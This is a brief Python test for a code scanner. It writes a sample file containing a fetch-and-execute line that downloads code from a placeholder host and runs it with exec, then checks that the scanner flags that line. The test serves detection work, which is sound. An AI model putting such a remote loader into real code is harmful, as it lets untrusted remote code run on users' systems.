"""Checks the scanner against a sample it writes (run with the project's own test runner)."""
from pyscan import scan


def test_a_remote_loader_is_reported(tmp_path):
    sample = tmp_path / "loader.py"
    sample.write_text(
        "import urllib.request\n"
        "exec(urllib.request.urlopen('https://example.invalid/stage').read())\n",
        encoding="utf-8",
    )
    assert scan(sample) == [2]
